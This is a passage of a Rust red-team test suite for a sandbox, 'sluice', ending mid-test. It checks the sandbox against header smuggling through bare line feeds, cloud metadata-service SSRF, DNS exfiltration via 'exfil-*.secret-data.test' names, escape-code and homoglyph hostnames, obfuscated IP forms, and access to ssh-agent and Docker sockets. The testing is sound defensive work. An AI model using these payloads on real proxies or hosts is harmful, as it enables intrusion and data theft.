//! Red team, round 15: the network modes from outside, with the source.
//! Each attack has its control: the same request allowed, or the same
//! action succeeding outside sluice.
//!
//! Servers are the test's own, on the host's loopback or on addresses given
//! to `lo` in a network namespace the test makes around sluice; test names
//! resolve through the `/etc/hosts` of `net_hosts::Net`. Nothing leaves the
//! machine, and nothing connects to the hypervisor (`AF_VSOCK` sockets are
//! made, never connected).

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use sluice_tests::{execute, Fixture, Outcome};

use super::net_ask::asking_policy;
use super::net_hosts::{around, dns_question, strs, Net, PROXY_PORT, PYTHON};

/// A Python HTTP server on 127.0.0.1 that answers every GET with the
/// `Host` headers it parsed, `HOSTS a|b` (Python's parser, like many,
/// ends a header line at a bare line feed).
struct HostEcho {
    child: Child,
    port: u16,
}

impl HostEcho {
    fn start() -> HostEcho {
        let script = "import http.server\n\
             class H(http.server.BaseHTTPRequestHandler):\n    \
                 def do_GET(self):\n        \
                     body = ('HOSTS ' + '|'.join(self.headers.get_all('Host') or [])).encode()\n        \
                     self.send_response(200)\n        \
                     self.send_header('Content-Length', str(len(body)))\n        \
                     self.end_headers()\n        \
                     self.wfile.write(body)\n    \
                 def log_message(self, *a):\n        \
                     pass\n\
             s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)\n\
             print(s.server_address[1], flush=True)\n\
             s.serve_forever()\n";
        let mut child = Command::new(PYTHON)
            .args(["-c", script])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().unwrap();
        HostEcho { child, port }
    }
}

impl Drop for HostEcho {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Python: each request sent raw (as latin-1) on a connection of its own
/// to the proxy; prints `INDEX REPLY` with the whole reply, its line ends
/// as `~`.
fn raw_replies(requests: &[String]) -> Vec<String> {
    let list: Vec<String> = requests
        .iter()
        .map(|r| {
            let hex: String = r.chars().map(|c| format!("{:02x}", c as u32)).collect();
            format!("bytes.fromhex('{hex}')")
        })
        .collect();
    vec![
        PYTHON.into(),
        "-c".into(),
        format!(
            "import socket\n\
             for i, req in enumerate([{}]):\n    \
                 s = socket.create_connection(('127.0.0.1', {PROXY_PORT}), timeout=60)\n    \
                 s.sendall(req)\n    \
                 data = b''\n    \
                 while True:\n        \
                     chunk = s.recv(4096)\n        \
                     if not chunk: break\n        \
                     data += chunk\n    \
                 text = data.decode(errors='replace').replace('\\r\\n', '~').replace('\\n', '~')\n    \
                 print(i, text, flush=True)\n    \
                 s.close()\n",
            list.join(", ")
        ),
    ]
}

/// The reply printed for each request by [`raw_replies`].
fn replies(stdout: &str, count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            let prefix = format!("{i} ");
            stdout
                .lines()
                .find_map(|l| l.strip_prefix(&prefix).map(str::to_owned))
                .unwrap_or_else(|| "missing".to_owned())
        })
        .collect()
}

/// Plain HTTP through the proxy: the proxy ends header lines at CRLF, a
/// server may end them at a bare LF too. A `Host` header after a bare LF
/// (in a header line, or after the request line's version) passed the
/// proxy's `Host` replacement as part of another line and reached the
/// server as a header of its own: domain fronting past the replacement
/// (before the judged `Host` in the second form, which servers that take
/// the first one serve). Control: the same request with CRLF reaches the
/// server with the judged `Host` only.
#[test]
fn a_bare_line_feed_smuggles_no_header_past_the_proxy() {
    let net = Net::new();
    let echo = HostEcho::start();
    let p = echo.port;
    let url = format!("http://allowed.test:{p}/");
    let requests = vec![
        format!("GET {url} HTTP/1.1\r\nX-A: a\nHost: other.test\r\n\r\n"),
        format!("GET {url} HTTP/1.1\nHost: other.test\r\n\r\n"),
        format!("GET {url} HTTP/1.1\nHost:other.test\r\n\r\n"),
        format!("GET {url} HTTP/1.1\r\nX-A: a\rHost: other.test\r\n\r\n"),
        format!("GET {url} HTTP/1.1\r\nX-A: a\0Host: other.test\r\n\r\n"),
        // The control, last.
        format!("GET {url} HTTP/1.1\r\nHost: other.test\r\nX-A: a\r\n\r\n"),
    ];
    let n = requests.len();
    let out = net.run(
        &[&format!("--allow-host=allowed.test:{p}")],
        &strs(&raw_replies(&requests)),
    );
    let got = replies(&out.stdout, n);
    for (i, reply) in got.iter().enumerate() {
        assert!(
            !reply.contains("other.test"),
            "request {i} {:?}: {reply}\n{out}",
            requests[i]
        );
    }
    for (i, reply) in got[..n - 1].iter().enumerate() {
        assert!(reply.starts_with("HTTP/1.1 400"), "request {i}: {reply}");
        assert!(reply.contains("sluice"), "request {i}: {reply}");
    }
    assert!(got[n - 1].starts_with("HTTP/1.0 200"), "{got:?}\n{out}");
    assert!(
        got[n - 1].ends_with(&format!("HOSTS allowed.test:{p}")),
        "{got:?}"
    );
}

/// Addresses of clouds' instance metadata services (and Azure's host
/// agent) outside the link-local range: a `*.` rule whose domain resolves
/// a name to one, or a person's answer to `ask_hosts`, reached it. Served
/// here on `lo` in a network namespace of the test's (addresses on `lo`
/// are left to the loopback rule, so only the metadata rule refuses them).
const METADATA: [(&str, &str); 5] = [
    ("alibaba", "100.100.100.200"),
    ("azure", "168.63.129.16"),
    ("oracle", "192.0.0.192"),
    ("aws6", "fd00:ec2::254"),
    ("gce6", "fd20:ce::254"),
];
/// The control's address: another address on `lo`, reached.
const ELSEWHERE: &str = "10.200.0.1";
const CLOUD_PORT: u16 = 8080;

/// `cmd` in a mount and network namespace of the test's: `lo` up with
/// [`METADATA`]'s addresses and [`ELSEWHERE`], a server on every one of
/// them serving `net.served`, and `NAME.cloud.test` resolving to each
/// (`ok.cloud.test` to [`ELSEWHERE`]).
fn in_a_cloud(net: &Net, cmd: Command) -> Command {
    let dir = net.hosts.parent().unwrap();
    let hosts = dir.join("cloud-hosts");
    let mut names = fs::read_to_string("/etc/hosts").unwrap_or_default();
    let mut addrs = String::new();
    for (name, ip) in METADATA {
        names.push_str(&format!("\n{ip} {name}.cloud.test\n"));
        let how = match ip.contains(':') {
            true => "128 dev lo nodad",
            false => "32 dev lo",
        };
        addrs.push_str(&format!("ip addr add {ip}/{how}\n"));
    }
    names.push_str(&format!("\n{ELSEWHERE} ok.cloud.test\n"));
    fs::write(&hosts, names).unwrap();
    let script = format!(
        "set -e\n\
         mount --bind \"$0\" /etc/hosts\n\
         ip link set lo up\n\
         {addrs}\
         ip addr add {ELSEWHERE}/32 dev lo\n\
         {PYTHON} -m http.server --bind :: --directory \"$1\" {CLOUD_PORT} >/dev/null 2>&1 &\n\
         server=$!\n\
         shift 1\n\
         i=0\n\
         until curl -s -o /dev/null --noproxy '*' http://{ELSEWHERE}:{CLOUD_PORT}/ready \
               && curl -s -o /dev/null --noproxy '*' 'http://[fd00:ec2::254]:{CLOUD_PORT}/ready'; do\n\
           i=$((i+1)); [ $i -lt 600 ] || exit 97; sleep 0.1\n\
         done\n\
         set +e\n\
         \"$@\"; status=$?\n\
         kill $server\n\
         exit $status\n"
    );
    let mut wrapped = Command::new("unshare");
    wrapped.args(["-m", "-n", "--propagation", "private", "--", "sh", "-c"]);
    wrapped.arg(script).arg(&hosts).arg(&net.served);
    around(wrapped, cmd)
}

fn cloud_url(host: &str) -> String {
    format!("http://{host}:{CLOUD_PORT}/index.html")
}

/// curl for each URL, one after the other; prints `URL STATUS` for each
/// (`000` when nothing answered).
fn curl_statuses(urls: &[String]) -> Vec<String> {
    let mut script = String::new();
    for url in urls {
        script.push_str(&format!(
            "printf '%s %s\\n' '{url}' \"$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 60 '{url}')\"\n"
        ));
    }
    vec!["sh".into(), "-c".into(), script]
}

fn status_of<'a>(out: &'a Outcome, url: &str) -> &'a str {
    out.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{url} ")))
        .unwrap_or("missing")
}

/// A cloud's metadata service by a name a `*.` rule allows (DNS pointing
/// an allowed domain's name at it), by a name the person allowed at the
/// prompt, and by its address put to the person: refused, the last without
/// asking. Control: the same rule and answer reach a name that resolves
/// elsewhere, and a rule naming the service exactly reaches it.
#[test]
fn a_clouds_metadata_service_is_out_of_a_wildcards_and_an_answers_reach() {
    let net = Net::new();
    let mut urls: Vec<String> = METADATA
        .iter()
        .map(|(name, _)| cloud_url(&format!("{name}.cloud.test")))
        .collect();
    urls.push(cloud_url("ok.cloud.test"));
    let wild = format!("--allow-host=*.cloud.test:{CLOUD_PORT}");
    let out = execute(in_a_cloud(
        &net,
        net.fx
            .sluice_command(&[&wild], &strs(&curl_statuses(&urls))),
    ));
    for url in &urls[..METADATA.len()] {
        assert_eq!(status_of(&out, url), "502", "{url}: {out}");
    }
    assert_eq!(status_of(&out, &urls[METADATA.len()]), "200", "{out}");
    assert!(
        out.stderr.contains("a cloud's metadata service"),
        "the refusal says why: {out}"
    );
    // Answers to `ask_hosts`: a name, and the addresses themselves.
    let policy = asking_policy(&net.fx, "true");
    let mut asked = urls.clone();
    for (_, ip) in METADATA {
        let host = match ip.contains(':') {
            true => format!("[{ip}]"),
            false => ip.to_owned(),
        };
        asked.push(cloud_url(&host));
    }
    let out = execute(in_a_cloud(
        &net,
        net.fx.sluice_command(
            &["--policy", &policy, "--approve", "allow"],
            &strs(&curl_statuses(&asked)),
        ),
    ));
    // Refused as an answer's name is: 403, the reason in the body.
    for url in &asked[..METADATA.len()] {
        assert_eq!(status_of(&out, url), "403", "{url}: {out}");
    }
    assert_eq!(status_of(&out, &asked[METADATA.len()]), "200", "{out}");
    for url in &asked[METADATA.len() + 1..] {
        assert_eq!(status_of(&out, url), "403", "{url}: {out}");
    }
    assert!(out.stderr.contains("never put to the person"), "{out}");
    // Control: named exactly, the service is reached (a person who names
    // it means it).
    let exact: Vec<String> = METADATA
        .iter()
        .map(|(name, _)| format!("--allow-host={name}.cloud.test:{CLOUD_PORT}"))
        .collect();
    let out = execute(in_a_cloud(
        &net,
        net.fx.sluice_command(
            &exact.iter().map(String::as_str).collect::<Vec<_>>(),
            &strs(&curl_statuses(&urls[..METADATA.len()])),
        ),
    ));
    for url in &urls[..METADATA.len()] {
        assert_eq!(status_of(&out, url), "200", "{url}: {out}");
    }
}

/// Python: makes one socket of each kind and prints `KIND OK` or `KIND
/// ERRNO-NAME`; never connects.
const FAMILIES: &str = "import socket, errno\n\
    kinds = {\n\
     'vsock': (40, socket.SOCK_STREAM, 0),\n\
     'vsock-dgram': (40, socket.SOCK_DGRAM, 0),\n\
     'mptcp': (socket.AF_INET, socket.SOCK_STREAM, 262),\n\
     'mptcp6': (socket.AF_INET6, socket.SOCK_STREAM, 262),\n\
     'sctp': (socket.AF_INET, socket.SOCK_STREAM, 132),\n\
     'sctp-seqpacket': (socket.AF_INET, socket.SOCK_SEQPACKET, 132),\n\
     'ping': (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),\n\
     'ping6': (socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6),\n\
     'udp': (socket.AF_INET, socket.SOCK_DGRAM, 0),\n\
     'udplite': (socket.AF_INET, socket.SOCK_DGRAM, 136),\n\
     'dccp': (socket.AF_INET, 6, 33),\n\
     'alg': (38, socket.SOCK_SEQPACKET, 0),\n\
     'xdp': (44, socket.SOCK_RAW, 0),\n\
     'netlink-route': (16, socket.SOCK_RAW, 0),\n\
     'netlink-audit': (16, socket.SOCK_RAW, 9),\n\
     'netlink-uevent': (16, socket.SOCK_DGRAM, 15),\n\
     'packet': (17, socket.SOCK_RAW, 0),\n\
     'tipc': (30, socket.SOCK_RDM, 0),\n\
     'rds': (21, socket.SOCK_SEQPACKET, 0),\n\
     'bluetooth': (31, socket.SOCK_RAW, 1),\n\
     'can': (29, socket.SOCK_RAW, 1),\n\
     'key': (15, socket.SOCK_RAW, 2),\n\
     'llc': (26, socket.SOCK_DGRAM, 0),\n\
     'qipcrtr': (42, socket.SOCK_DGRAM, 0),\n\
     'smc': (43, socket.SOCK_STREAM, 0),\n\
    }\n\
    for k, (d, t, p) in kinds.items():\n    \
        try:\n        \
            socket.socket(d, t, p).close(); print(k, 'OK')\n    \
        except OSError as e:\n        \
            print(k, errno.errorcode.get(e.errno, e.errno))\n";

fn families(out: &Outcome) -> Vec<(String, String)> {
    out.stdout
        .lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect()
}

/// Socket families beyond TCP in every mode but `all`: VM sockets (which
/// reach the hypervisor whatever the network namespace), MPTCP and SCTP
/// streams (which Linux 6.18's Landlock leaves to the TCP rules of no
/// one: it handles TCP only), ping sockets, UDP, netlink (route, audit,
/// uevent), packet, XDP, AF_ALG and the rest: none is made. Control: as
/// root outside sluice this kernel makes a VM socket, an MPTCP one, an XDP
/// one and netlink ones.
#[test]
fn no_socket_family_beyond_tcp_is_made_in_any_mode_but_all() {
    let fx = Fixture::new(super::net_hosts::PROBE);
    let program = [PYTHON, "-c", FAMILIES];
    let outside = execute({
        let mut c = Command::new(PYTHON);
        c.args(["-c", FAMILIES]);
        c
    });
    let outside = families(&outside);
    assert_eq!(outside.len(), 25, "{outside:?}");
    for kind in [
        "vsock",
        "mptcp",
        "xdp",
        "netlink-audit",
        "netlink-uevent",
        "udp",
    ] {
        assert!(
            outside.contains(&(kind.to_owned(), "OK".to_owned())),
            "the control: {kind} outside sluice: {outside:?}"
        );
    }
    for mode in [
        vec!["--net", "none"],
        vec!["--net", "tcp:443"],
        vec!["--allow-host", "example.test"],
    ] {
        let out = execute(fx.sluice_command(&mode, &program));
        let inside = families(&out);
        assert_eq!(inside.len(), outside.len(), "{mode:?}: {out}");
        for (kind, result) in &inside {
            assert_ne!(result, "OK", "{mode:?}: {kind} was made: {out}");
        }
    }
    // `all` is the host's network, and more: the VM socket is made.
    let out = execute(fx.sluice_command(&["--net", "all"], &program));
    assert!(
        families(&out).contains(&("vsock".to_owned(), "OK".to_owned())),
        "{out}"
    );
}

/// A server on 127.0.0.1 that takes every connection, echoes what it is
/// sent, and counts the connections.
struct Echo {
    port: u16,
    accepted: Arc<AtomicUsize>,
}

impl Echo {
    fn start() -> Echo {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let counted = accepted.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                counted.fetch_add(1, Ordering::SeqCst);
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(120)));
                    let mut buf = [0u8; 4096];
                    while let Ok(n @ 1..) = stream.read(&mut buf) {
                        if stream.write_all(&buf[..n]).is_err() {
                            break;
                        }
                    }
                });
            }
        });
        Echo { port, accepted }
    }
}

/// Many relayed connections held open: each relayed connection held six of
/// the supervisor's descriptors (its two sockets and a splicing pipe each
/// way), so 256 of them took a supervisor under the usual 1,024 limit to
/// its last descriptors: the guard's opens failed with `EMFILE` and the
/// program's own files in its workspace could not be made. Now the proxy
/// holds at most 512 (pipes for a few directions, the others copied), and
/// every accepted connection still carries bytes both ways. Control: the
/// same writes and broker request succeed with the connections held.
#[test]
fn held_connections_leave_the_supervisor_descriptors_for_the_guard_and_broker() {
    let net = Net::new();
    let echo = Echo::start();
    let p = echo.port;
    let script = format!(
        "import socket, sys, os, subprocess\n\
         held = [socket.create_connection(('127.0.0.1', {p}), timeout=60) for _ in range(256)]\n\
         served = 0\n\
         for i, s in enumerate(held[:200]):\n    \
             s.sendall(b'ping %d' % i)\n    \
             if s.recv(64) == b'ping %d' % i: served += 1\n\
         print('SERVED', served, flush=True)\n\
         sys.stdin.readline()\n\
         for i in range(20):\n    \
             with open('made-%d.txt' % i, 'w') as f: f.write('x')\n\
         print('WROTE', flush=True)\n\
         fd = int(os.environ['SLUICE_BROKER_FD'])\n\
         r = subprocess.run([os.environ['SLUICE_BIN'], 'open', '/etc/hostname'], pass_fds=[fd], capture_output=True)\n\
         print('OPENED', r.returncode, flush=True)\n"
    );
    let file = net.fx.ws("held.py");
    fs::write(&file, script).unwrap();
    let cmd = net.fx.sluice_command(
        &[&format!("--allow-host=127.0.0.1:{p}"), "--approve", "allow"],
        &[PYTHON, &file],
    );
    let mut limited = Command::new("prlimit");
    limited.arg("--nofile=1024:1024").arg("--");
    let mut cmd = around(limited, cmd);
    cmd.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    // prlimit execs: the pid is sluice's.
    let pid = child.id();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(
        line.trim(),
        "SERVED 200",
        "every accepted connection relays"
    );
    let held = fs::read_dir(format!("/proc/{pid}/fd")).unwrap().count();
    // 512 for the proxy, and what sluice holds anyway (a few dozen).
    assert!(held < 512 + 150, "the supervisor holds {held} descriptors");
    assert!(echo.accepted.load(Ordering::SeqCst) >= 200);
    child.stdin.take().unwrap().write_all(b"\n").unwrap();
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).unwrap();
    assert!(child.wait().unwrap().success(), "{rest}");
    assert_eq!(rest, "WROTE\nOPENED 0\n");
    assert!(net.fx.ws_dir.join("made-19.txt").exists());
}

/// Python: a TCP (protocol 0) and an MPTCP (262) connect to `port`, each
/// printing `PROTO CONNECTED` or `PROTO ERRNO-NAME`.
fn tcp_and_mptcp_connect(port: u16) -> Vec<String> {
    vec![
        PYTHON.into(),
        "-c".into(),
        format!(
            "import socket, errno\n\
             for proto in (0, 262):\n    \
                 try:\n        \
                     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)\n        \
                     s.settimeout(20)\n        \
                     s.connect(('127.0.0.1', {port})); print(proto, 'CONNECTED')\n    \
                 except OSError as e:\n        \
                     print(proto, errno.errorcode.get(e.errno, e.errno))\n"
        ),
    ]
}

/// Under `--net tcp:PORTS` Landlock refuses TCP connects to other ports,
/// but Linux 6.18's Landlock checks TCP sockets only: an MPTCP socket's
/// `connect` passes it to any port (checked here with the filter's
/// protocol rule removed: connected). The deny filter's protocol rule
/// (TCP or 0 only) is what refuses it. Control: outside sluice the same
/// MPTCP connect reaches the port; inside, TCP reaches the listed port.
#[test]
fn an_mptcp_connect_never_passes_the_tcp_modes_ports() {
    let fx = Fixture::new(super::net_hosts::PROBE);
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let other = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let other_port = other.local_addr().unwrap().port();
    let outside = execute({
        let mut c = Command::new(PYTHON);
        c.args(&tcp_and_mptcp_connect(port)[1..]);
        c
    });
    assert_eq!(outside.stdout, "0 CONNECTED\n262 CONNECTED\n", "{outside}");
    let program = tcp_and_mptcp_connect(port);
    let out = execute(fx.sluice_command(&["--net", &format!("tcp:{other_port}")], &strs(&program)));
    assert_eq!(out.stdout, "0 EACCES\n262 EPERM\n", "{out}");
    let program = tcp_and_mptcp_connect(other_port);
    let out = execute(fx.sluice_command(&["--net", &format!("tcp:{other_port}")], &strs(&program)));
    assert_eq!(out.stdout, "0 CONNECTED\n262 EPERM\n", "{out}");
}

/// A name server on `ip`:53, UDP and TCP, that records every name it is
/// asked and answers NXDOMAIN.
fn dns_sink(ip: &str) -> Arc<std::sync::Mutex<Vec<String>>> {
    fn nxdomain(q: &[u8], end: usize) -> Vec<u8> {
        let mut r = q[..2].to_vec();
        r.extend_from_slice(&[0x81, 0x83, 0, 1, 0, 0, 0, 0, 0, 0]);
        r.extend_from_slice(&q[12..end]);
        r
    }
    let names = Arc::new(std::sync::Mutex::new(Vec::new()));
    let udp = std::net::UdpSocket::bind((ip, 53)).unwrap();
    let tcp = TcpListener::bind((ip, 53)).unwrap();
    let seen = names.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok((n, from)) = udp.recv_from(&mut buf) {
            if n < 12 {
                continue;
            }
            let (name, end) = dns_question(&buf[..n]);
            seen.lock().unwrap().push(name);
            let _ = udp.send_to(&nxdomain(&buf[..n], end), from);
        }
    });
    let seen = names.clone();
    std::thread::spawn(move || {
        for stream in tcp.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut len = [0u8; 2];
            if stream.read_exact(&mut len).is_err() {
                continue;
            }
            let mut q = vec![0u8; u16::from_be_bytes(len) as usize];
            if stream.read_exact(&mut q).is_err() || q.len() < 12 {
                continue;
            }
            let (name, end) = dns_question(&q);
            seen.lock().unwrap().push(name);
            let r = nxdomain(&q, end);
            let mut out = (r.len() as u16).to_be_bytes().to_vec();
            out.extend_from_slice(&r);
            let _ = stream.write_all(&out);
        }
    });
    names
}

/// Python: the program's own lookup of `exfil-own.NAME-data.test`, then
/// through the proxy a CONNECT, a plain-HTTP request and a SOCKS5 request
/// naming `exfil-connect...`, `exfil-http...`, `exfil-socks...`, and last
/// a CONNECT to `control` (which the policy may allow).
fn lookups(control: &str) -> Vec<String> {
    vec![
        PYTHON.into(),
        "-c".into(),
        format!(
            "import socket, struct\n\
             def proxy(req):\n    \
                 try:\n        \
                     s = socket.create_connection(('127.0.0.1', {PROXY_PORT}), timeout=60)\n        \
                     s.sendall(req); print(s.recv(200)[:12], flush=True); s.close()\n    \
                 except OSError as e:\n        \
                     print('proxy', e, flush=True)\n\
             try:\n    \
                 socket.getaddrinfo('exfil-own.secret-data.test', 80); print('RESOLVED')\n\
             except OSError as e:\n    \
                 print('own lookup', e, flush=True)\n\
             proxy(b'CONNECT exfil-connect.secret-data.test:443 HTTP/1.1\\r\\n\\r\\n')\n\
             proxy(b'GET http://exfil-http.secret-data.test/ HTTP/1.1\\r\\n\\r\\n')\n\
             name = b'exfil-socks.secret-data.test'\n\
             proxy(b'\\x05\\x01\\x00\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + struct.pack('>H', 443))\n\
             proxy(b'CONNECT {control}:443 HTTP/1.1\\r\\n\\r\\n')\n"
        ),
    ]
}

/// DNS as a way out: a program that cannot connect could still send data
/// in the names it has resolved (`<data>.attacker.example` reaches the
/// attacker's name server through any resolver). Under `none` the
/// program's own lookup reaches no name server; under the hosts mode
/// neither does it, and the proxy resolves a name only once a rule (or an
/// answer) allows it: a refused one, in a CONNECT, a plain-HTTP request or
/// SOCKS5, or one the person is asked about and denies, is never looked
/// up. Control: a name a `*.` rule allows is looked up, by the same name
/// server.
#[test]
fn refused_names_are_never_looked_up() {
    let net = Net::new();
    let ns = "127.0.0.78";
    let names = dns_sink(ns);
    let resolv = net.fx.root().join("sink-resolv.conf");
    fs::write(
        &resolv,
        format!("nameserver {ns}\noptions attempts:1 timeout:5\n"),
    )
    .unwrap();
    let run = |args: &[&str], program: &[String]| {
        let mut wrapped = Command::new("unshare");
        wrapped.args(["-m", "--propagation", "private", "--", "sh", "-c"]);
        wrapped.arg(
            "mount --bind \"$0\" /etc/resolv.conf && mount --bind \"$1\" /etc/hosts \
             && shift && exec \"$@\"",
        );
        wrapped.arg(&resolv).arg(&net.hosts);
        execute(around(wrapped, net.fx.sluice_command(args, &strs(program))))
    };
    let wild = "--allow-host=*.wild.test:443";
    let out = run(&[wild], &lookups("control.wild.test"));
    assert!(out.stdout.contains("own lookup"), "{out}");
    let out_none = run(&["--net", "none"], &lookups("control.wild.test"));
    assert!(out_none.stdout.contains("own lookup"), "{out_none}");
    let policy = asking_policy(&net.fx, "true");
    let out_ask = run(
        &["--policy", &policy, "--approve", "deny"],
        &lookups("x.test"),
    );
    assert!(out_ask.stdout.contains("403"), "{out_ask}");
    let asked = names.lock().unwrap().clone();
    assert!(
        !asked.iter().any(|n| n.contains("secret-data")),
        "names looked up: {asked:?}\n{out}\n{out_none}\n{out_ask}"
    );
    // The control: the allowed name was looked up (and is unknown).
    assert!(
        asked.iter().any(|n| n == "control.wild.test"),
        "names looked up: {asked:?}\n{out}"
    );
    assert!(out.stdout.contains("HTTP/1.1 502"), "{out}");
}

/// An address written as the C library's resolver reads it (`0x7f.1`,
/// `2130706433`, `0300.0250.0.1`) was a name to the proxy: put to the
/// person as a name (a loopback address among them, which is never asked
/// about), shown as written (`010.0.0.1`, which reads as 10.0.0.1, is
/// 8.0.0.1). Now each is the address it is: a loopback one refused without
/// asking, another asked about and refused as that address. Control: the
/// dotted address the same.
#[test]
fn an_address_in_another_form_is_judged_and_shown_as_the_address() {
    let net = Net::new();
    let p = net.server.port;
    let policy = asking_policy(&net.fx, "true");
    let requests: Vec<String> = [
        format!("0x7f.1:{p}"),
        format!("2130706433:{p}"),
        format!("127.0.0.1:{p}"),
        format!("0300.0250.0.1:{p}"),
        format!("192.168.0.1:{p}"),
    ]
    .iter()
    .map(|t| format!("CONNECT {t} HTTP/1.1\r\n\r\n"))
    .collect();
    let out = net.run(
        &["--policy", &policy, "--approve", "deny"],
        &strs(&raw_replies(&requests)),
    );
    let got = replies(&out.stdout, requests.len());
    for reply in &got[..3] {
        assert!(reply.starts_with("HTTP/1.1 403"), "{reply}\n{out}");
        assert!(reply.contains("never put to the person"), "{reply}\n{out}");
    }
    for reply in &got[3..] {
        assert!(reply.starts_with("HTTP/1.1 403"), "{reply}\n{out}");
        assert!(
            reply.contains(&format!("refused the connection to 192.168.0.1:{p}")),
            "{reply}\n{out}"
        );
    }
    assert!(!out.stderr.contains("0300"), "shown as written: {out}");
}

/// What a host prompt shows is a name of ASCII letters, digits, `-`, `_`
/// and dots, or an address: a name carrying a terminal escape, a
/// right-to-left override (which shows `moc.evil` reversed), a Cyrillic
/// homoglyph of `a`, or a C1 control, in a CONNECT, a plain-HTTP request
/// or SOCKS5, is refused as malformed before anyone is asked (under
/// `--approve allow`, nothing is allowed and nothing is recorded as
/// answered). Control: the same request with the plain name is served
/// (a rule allows it, since an answer never reaches the test server's
/// loopback address).
#[test]
fn names_that_would_mislead_the_person_are_never_put_to_them() {
    let net = Net::new();
    let p = net.server.port;
    let policy = asking_policy(&net.fx, "true");
    let bad_names = [
        "allowed.test\u{1b}[2K\u{1b}[1G",
        "allowed.test\u{202e}tset.rehto",
        "\u{430}llowed.test",
        "allowed.test\u{9b}31m",
    ];
    let mut requests: Vec<String> = Vec::new();
    for name in bad_names {
        requests.push(format!("CONNECT {name}:{p} HTTP/1.1\r\n\r\n"));
        requests.push(format!("GET http://{name}:{p}/index.html HTTP/1.1\r\n\r\n"));
    }
    // The control, last: the plain name, allowed by the answer.
    requests.push(format!(
        "GET http://allowed.test:{p}/index.html HTTP/1.1\r\n\r\n"
    ));
    // The requests as UTF-8 bytes.
    let utf8: Vec<String> = requests
        .iter()
        .map(|r| r.bytes().map(char::from).collect())
        .collect();
    let n = utf8.len();
    let before = net.server.hits();
    let allow = net.allow("allowed.test");
    let out = net.run(
        &["--policy", &policy, "--approve", "allow", &allow],
        &strs(&raw_replies(&utf8)),
    );
    let got = replies(&out.stdout, n);
    for (i, reply) in got[..n - 1].iter().enumerate() {
        assert!(
            reply.starts_with("HTTP/1.1 400"),
            "request {i} {:?}: {reply}\n{out}",
            requests[i]
        );
    }
    assert!(got[n - 1].starts_with("HTTP/1.0 200"), "{got:?}\n{out}");
    assert_eq!(net.server.hits(), before + 1);
    // SOCKS5 names too: the greeting's method, then a refusal (no
    // success reply) for each, and none reaches the server.
    let socks: Vec<String> = bad_names
        .iter()
        .map(|name| {
            let mut r: Vec<u8> = vec![5, 1, 0, 5, 1, 0, 3, name.len() as u8];
            r.extend_from_slice(name.as_bytes());
            r.extend_from_slice(&p.to_be_bytes());
            r.into_iter().map(char::from).collect()
        })
        .collect();
    let out = net.run(
        &["--policy", &policy, "--approve", "allow", &allow],
        &strs(&raw_replies(&socks)),
    );
    let got = replies(&out.stdout, socks.len());
    for reply in &got {
        // `05 00` (no authentication), then no `05 00` success reply.
        assert!(reply.starts_with("\u{5}\u{0}"), "{got:?}\n{out}");
        assert!(!reply[2..].starts_with("\u{5}\u{0}"), "{got:?}\n{out}");
    }
    assert_eq!(net.server.hits(), before + 1);
}

/// A Unix socket listener at `path` (its directory made), non-blocking;
/// how many connections it got is [`arrived`].
fn unix_listener(path: &std::path::Path) -> std::os::unix::net::UnixListener {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let _ = fs::remove_file(path);
    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
    listener.set_nonblocking(true).unwrap();
    listener
}

fn arrived(listener: &std::os::unix::net::UnixListener) -> usize {
    std::iter::from_fn(|| listener.accept().ok()).count()
}

/// The person's Unix sockets by path in every network mode: an X server's
/// (`/tmp/.X11-unix` is in the host's `/tmp`, which no policy tree holds),
/// an ssh agent's named by `SSH_AUTH_SOCK` (passed to the program), and
/// the session bus and Docker's, at their usual places in the home
/// directory and `/run`-like trees outside the policy. The network mode
/// changes the program's network namespace, not its view of the files:
/// none exists in the sandbox in any mode. Control: each reached outside
/// sluice, and a socket in the workspace reached in every mode.
#[test]
fn the_persons_unix_sockets_are_out_of_reach_in_every_network_mode() {
    let fx = Fixture::new(super::net_hosts::PROBE);
    let x11 = std::path::PathBuf::from(format!(
        "/tmp/.X11-unix-sluice-test-{}/X99",
        std::process::id()
    ));
    let targets = [
        x11.clone(),
        fx.root().join("home/.ssh/agent.sock"),
        fx.root().join("outside/run/user/1000/bus"),
        fx.root().join("outside/var/run/docker.sock"),
    ];
    let listeners: Vec<_> = targets.iter().map(|p| unix_listener(p)).collect();
    let inside = fx.ws_dir.join("ok.sock");
    let inside_listener = unix_listener(&inside);
    for (path, listener) in targets.iter().zip(&listeners) {
        fx.direct(&["unix-connect", path.to_str().unwrap()])
            .assert_ok();
        assert_eq!(arrived(listener), 1, "the control for {path:?}");
